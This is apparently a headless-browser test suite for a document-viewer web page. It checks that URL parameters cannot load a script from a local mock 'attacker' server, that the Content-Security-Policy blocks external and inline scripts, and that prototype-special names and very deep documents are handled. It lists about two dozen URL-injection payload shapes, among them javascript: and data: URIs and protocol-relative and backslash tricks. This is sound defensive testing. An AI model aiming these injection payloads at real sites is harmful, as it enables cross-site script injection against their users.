// What a link, a name or a deep document can do to the page, in headless chromium: the page
// served over http by a server on 127.0.0.1 (and opened from file://), an "attacker" server on
// another port whose script must never run for any shape of ?data= or &base=; the page's
// Content-Security-Policy on both; names that JavaScript objects treat specially opened every
// way a document can be opened; and documents thousands of groups deep.
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import { launch, pageUrl, relativeToPage, tempDir, viewerDir } from './browser.mjs';
import { SPECIAL_NAMES, documents, readDocument } from './documents.mjs';

const docs = documents();
const served = tempDir('vorlith-served-');
const TYPES = { '.html': 'text/html', '.js': 'text/javascript', '.css': 'text/css', '.json': 'application/json' };

function deepDocument(depth) {
  let s = '{"total":8,"children":{},"leaves":{"x":{"size":8,"address":4096,"mangledName":"x","demangledName":""}}}';
  for (let i = depth - 1; i >= 0; i--) s = '{"total":8,"children":{"level' + i + '":' + s + '},"leaves":{}}';
  return 'var treeData = ' + s;
}
const DEPTHS = [1000, 4000, 20000];
for (const d of DEPTHS) fs.writeFileSync(path.join(served, `deep-${d}.json`), deepDocument(d));
fs.copyFileSync(docs.sample, path.join(served, 'sample.json'));
fs.copyFileSync(docs.special, path.join(served, 'special.json'));

// The site: /viewer/ is the page, /docs/ the documents. Plain files, nothing else.
function startServer(handler) {
  const server = http.createServer(handler);
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve(server)));
}

function sendFile(res, file) {
  fs.readFile(file, (err, data) => {
    if (err) return res.writeHead(404).end();
    res.writeHead(200, { 'content-type': TYPES[path.extname(file)] || 'application/octet-stream' }).end(data);
  });
}

let site;
let attacker;
const attackerHits = [];
let browser;

before(async () => {
  site = await startServer((req, res) => {
    const p = decodeURIComponent(new URL(req.url, 'http://x').pathname);
    if (p.includes('..')) return res.writeHead(403).end();
    if (p.startsWith('/viewer/')) return sendFile(res, path.join(viewerDir, p.slice('/viewer/'.length)));
    if (p.startsWith('/docs/')) return sendFile(res, path.join(served, p.slice('/docs/'.length)));
    res.writeHead(404).end();
  });
  // Whatever it is asked for, it answers with code that marks the page, or with a forged
  // document that does the same.
  attacker = await startServer((req, res) => {
    attackerHits.push(req.url);
    const forged = 'window.__pwned = "' + req.url + '"; document.cookie; var treeData = {"total":1,"children":{},"leaves":' +
      '{"FORGED":{"size":1,"address":0,"mangledName":"FORGED"}}};';
    res.writeHead(200, { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' }).end(forged);
  });
  browser = await launch();
});

after(async () => {
  await browser.close();
  site.close();
  attacker.close();
});

const siteUrl = (rest) => `http://127.0.0.1:${site.address().port}/viewer/index.html${rest}`;
const filePage = (rest) => pageUrl() + rest;

async function settle(page) {
  await page.waitForFunction(() => window.vorlithViewer && window.vorlithViewer.state !== 'loading' &&
    window.vorlithViewer.state !== 'empty' &&
    !(!document.getElementById('message').hidden && /^(Loading|Reading)/.test(document.getElementById('message').textContent)));
}

function attackShapes() {
  const host = `127.0.0.1:${attacker.address().port}`;
  return [
    `http://${host}/evil.js`, `HTTP://${host}/evil.js`, `//${host}/evil.js`, `///${host}/evil.js`, `\\\\${host}\\evil.js`,
    `/\\${host}/evil.js`, `\\/${host}/evil.js`, ` //${host}/evil.js`, `\t//${host}/evil.js`, `/\t/${host}/evil.js`,
    `\n//${host}/evil.js`, `http:${host}/evil.js`, `http:/${host}/evil.js`, `http://${host}/doc.json`,
    `data:text/javascript,window.__pwned=1`, `data:application/json,{}`, `javascript:window.__pwned=1//`,
    ` javascript:window.__pwned=1`, `java\tscript:window.__pwned=1`, `blob:http://${host}/x`, `http://localhost:${attacker.address().port}/evil.js`,
    `%2F%2F${host}/evil.js`, `${host}/evil.js`, `./%2F%2F${host}/evil.js`,
  ];
}

describe('links to documents', () => {
  it('never runs the attacker\'s script, for any shape of ?data= or &base=, served over http or from file://', async () => {
    const page = await browser.newPage();
    const origins = [
      ['http', (q) => siteUrl(q), '../docs/sample.json'],
      ['file', (q) => filePage(q), relativeToPage(docs.sample)],
    ];
    let refused = 0;
    for (const [origin, url, good] of origins) {
      for (const shape of attackShapes()) {
        for (const query of [{ data: shape }, { data: good, base: shape }]) {
          const label = `${origin} ${JSON.stringify(query)}`;
          await page.goto(url('?' + new URLSearchParams(query).toString()));
          await settle(page);
          assert.equal(await page.evaluate(() => window.__pwned), undefined, label);
          assert.equal(await page.evaluate(() => window.vorlithViewer.state), 'error', label);
          const message = await page.locator('#message').textContent();
          // A shape that is a plain relative path stays on the site and finds nothing there.
          if (/is not loaded/.test(message)) refused++;
          else assert.match(message, /Could not load .*(missing|404)/, label);
          assert.ok(!(await page.locator('#table').textContent()).includes('FORGED'), label);
          assert.deepEqual(attackerHits, [], label);
        }
      }
    }
    assert.ok(refused >= 2 * 2 * (attackShapes().length - 3), 'refused as a matter of form: ' + refused);
    // The same page loads a good pair of documents, so the refusals above are not a broken page.
    await page.goto(siteUrl('?data=../docs/sample.json&base=../docs/special.json'));
    await settle(page);
    assert.equal(await page.evaluate(() => window.vorlithViewer.state), 'ready');
    await page.close();
  });
});

describe('Content-Security-Policy', () => {
  for (const [origin, url] of [['http', () => siteUrl('?data=../docs/sample.json')], ['file', () => pageUrl({ data: docs.sample })]]) {
    it(`lets the page work from ${origin}:// and blocks scripts from elsewhere and inline ones`, async () => {
      const page = await browser.newPage();
      await page.addInitScript(() => {
        window.__violations = [];
        document.addEventListener('securitypolicyviolation', (e) => window.__violations.push(e.violatedDirective + ' ' + e.blockedURI));
      });
      await page.goto(url());
      await settle(page);
      assert.equal(await page.evaluate(() => window.vorlithViewer.state), 'ready');
      assert.deepEqual(await page.evaluate(() => window.__violations), [], 'nothing of the page itself is blocked');
      const csp = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
      assert.match(csp, /script-src 'self'(;|$)/);
      // Whatever got past the address check would still meet the policy.
      const host = `127.0.0.1:${attacker.address().port}`;
      await page.evaluate((h) => {
        for (const src of [`http://${h}/evil.js`, 'data:text/javascript,window.__pwned=1']) {
          const s = document.createElement('script');
          s.src = src;
          document.head.appendChild(s);
        }
        const inline = document.createElement('script');
        inline.textContent = 'window.__pwned = "inline"';
        document.head.appendChild(inline);
      }, host);
      await page.waitForFunction(() => window.__violations.length >= 3);
      assert.equal(await page.evaluate(() => window.__pwned), undefined);
      assert.deepEqual(attackerHits, []);
      await page.close();
    });
  }
});

// What the page shows of the document, to compare the ways of opening it.
async function snapshot(page) {
  return page.evaluate(() => ({
    state: window.vorlithViewer.state,
    top: window.vorlithViewer.boxes().filter((b) => b.depth === 1).map((b) => [b.path.join('/'), b.size, b.kind, b.isLeaf]).sort(),
    all: window.vorlithViewer.boxes().filter((b) => !b.rest).map((b) => b.path.join('/')).sort(),
    legend: Array.from(document.querySelectorAll('#legend li'), (li) => [li.dataset.kind, Number(li.dataset.bytes)]),
    table: Array.from(document.querySelectorAll('#table tbody tr'), (tr) => tr.querySelector('.name').textContent + ' ' + tr.cells[1].textContent),
    message: document.getElementById('message').hidden ? '' : document.getElementById('message').textContent,
  }));
}

async function openByPicker(file) {
  const page = await browser.newPage();
  await page.goto(pageUrl());
  await page.waitForFunction(() => window.vorlithViewer && window.vorlithViewer.state === 'empty');
  await page.setInputFiles('#file', file);
  await settle(page);
  return page;
}

async function openByDrop(file) {
  const page = await browser.newPage();
  await page.goto(pageUrl());
  await page.waitForFunction(() => window.vorlithViewer && window.vorlithViewer.state === 'empty');
  await page.evaluate(([text, name]) => {
    const dt = new DataTransfer();
    dt.items.add(new File([text], name));
    window.dispatchEvent(new DragEvent('drop', { dataTransfer: dt, bubbles: true, cancelable: true }));
  }, [fs.readFileSync(file, 'utf8'), path.basename(file)]);
  await settle(page);
  return page;
}

async function openByAddress(file, origin) {
  const page = await browser.newPage();
  await page.goto(origin === 'http' ? siteUrl('?data=../docs/' + path.basename(file)) : pageUrl({ data: file }));
  await settle(page);
  return page;
}

const OPENERS = [
  ['?data= from file://', (f) => openByAddress(f, 'file')],
  ['?data= over http', (f) => openByAddress(f, 'http')],
  ['the file picker', openByPicker],
  ['drag and drop', openByDrop],
];

describe('names JavaScript treats specially', () => {
  it('open the same way through ?data=, the picker and drag and drop, with the same totals and legend', async () => {
    const file = path.join(served, 'special.json');
    const doc = readDocument(file);
    const names = new Set();
    const walk = (n) => {
      for (const [k, c] of Object.entries(n.children)) {
        names.add(k);
        walk(c);
      }
      for (const k of Object.keys(n.leaves)) names.add(k);
    };
    walk(doc);
    assert.ok(['__proto__', 'constructor', 'toString'].every((n) => names.has(n)), 'the document holds the names');
    assert.ok(Object.keys(doc.children).includes('__proto__') && Object.keys(doc.children).includes('constructor'), 'as top-level groups');
    let first = null;
    for (const [how, open] of OPENERS) {
      const page = await open(file);
      const shot = await snapshot(page);
      assert.equal(shot.state, 'ready', how + ': ' + shot.message);
      assert.equal(shot.top.reduce((s, t) => s + t[1], 0), doc.total, how);
      assert.equal(shot.legend.reduce((s, l) => s + l[1], 0), doc.total, how + ': every top-level group is in the legend');
      for (const [p, size, kind, isLeaf] of shot.top) {
        assert.ok(typeof kind === 'string' && /^[a-z]+$/.test(kind), `${how}: ${p} has kind ${kind}`);
        const top = p.split('/')[0];
        assert.equal(size, isLeaf ? Object.getOwnPropertyDescriptor(doc.leaves, top).value.size :
          Object.getOwnPropertyDescriptor(doc.children, top).value.total, how + ': ' + p);
      }
      for (const n of SPECIAL_NAMES.filter((x) => names.has(x))) assert.ok(shot.all.some((p) => p.split('/').includes(n)), `${how}: ${n} drawn`);
      if (first) assert.deepEqual({ ...shot, message: '' }, { ...first, message: '' }, how + ' shows what the first way showed');
      else first = shot;
      await page.close();
    }
  });
});

describe('deep documents', () => {
  it('open through the picker, drop and http at any depth; from file:// open or name the script parser', async () => {
    for (const depth of DEPTHS) {
      const file = path.join(served, `deep-${depth}.json`);
      for (const [how, open] of OPENERS) {
        const page = await open(file);
        const shot = await snapshot(page);
        const label = `${depth} levels through ${how}`;
        if (shot.state === 'error') {
          assert.equal(how, '?data= from file://', label + ': ' + shot.message);
          assert.match(shot.message, /nested too deeply for the browser's script parser \(.*(stack|recursion).*\)\. Open it with "Open document" or drop it/, label);
        } else {
          assert.equal(shot.state, 'ready', label);
          assert.equal(shot.top.reduce((s, t) => s + t[1], 0), 8, label);
        }
        await page.close();
      }
    }
  });

  it('zooms to the deepest group of a document a thousand groups deep', async () => {
    const depth = 1000;
    const page = await openByAddress(path.join(served, `deep-${depth}.json`), 'http');
    const segments = Array.from({ length: depth }, (_, i) => 'level' + i);
    await page.evaluate((h) => { location.hash = h; }, '#/' + segments.join('/'));
    await page.waitForFunction((n) => window.vorlithViewer.viewPath().length === n, depth);
    const boxes = await page.evaluate(() => window.vorlithViewer.boxes());
    assert.deepEqual(boxes.map((b) => b.name), ['x']);
    assert.equal(await page.locator('#crumbs a').count(), depth);
    await page.close();
  });
});
